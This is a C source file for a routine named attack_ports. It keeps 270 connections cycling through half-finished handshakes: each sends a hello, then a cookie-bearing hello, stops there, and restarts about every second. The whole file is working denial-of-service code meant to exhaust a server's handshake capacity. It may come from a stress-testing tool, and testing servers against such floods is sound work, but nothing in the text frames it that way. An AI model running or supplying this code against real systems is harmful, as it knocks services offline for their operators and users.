// Handshakes from 270 ports that stop in the middle, after the hello with the cookie, and begin anew a second later.
#include "attack.h"

#include <unistd.h>

enum { PORTS = 270, PAUSE_US = 1000 };
#define ANEW_EVERY_S 1.0
#define ANSWER_WITHIN_S 0.2

void attack_ports(attack *a)
{
    static peer ports[PORTS];
    static int steps[PORTS];
    while (attack_goes_on(a)) {
        for (int i = 0; i < PORTS; i++) {
            double now_s = attack_now_s();
            if (ports[i].state == PEER_NONE) {
                if (!peer_begin(a, &ports[i])) {
                    continue;
                }
                steps[i] = 1;
                peer_step(a, &ports[i]); // the hello
            } else if (steps[i] == 1 && now_s < ports[i].since_s + ANSWER_WITHIN_S) {
                char byte;
                if (recv(ports[i].fd, &byte, 1, MSG_PEEK) <= 0) {
                    continue;
                }
                steps[i] = 2;
                peer_step(a, &ports[i]); // the hello with the cookie
                a->sent++;
            } else if (now_s > ports[i].since_s + ANEW_EVERY_S || ports[i].state == PEER_CLOSED) {
                peer_end(&ports[i]);
            }
        }
        usleep(PAUSE_US);
    }
    for (int i = 0; i < PORTS; i++) {
        peer_end(&ports[i]);
    }
}
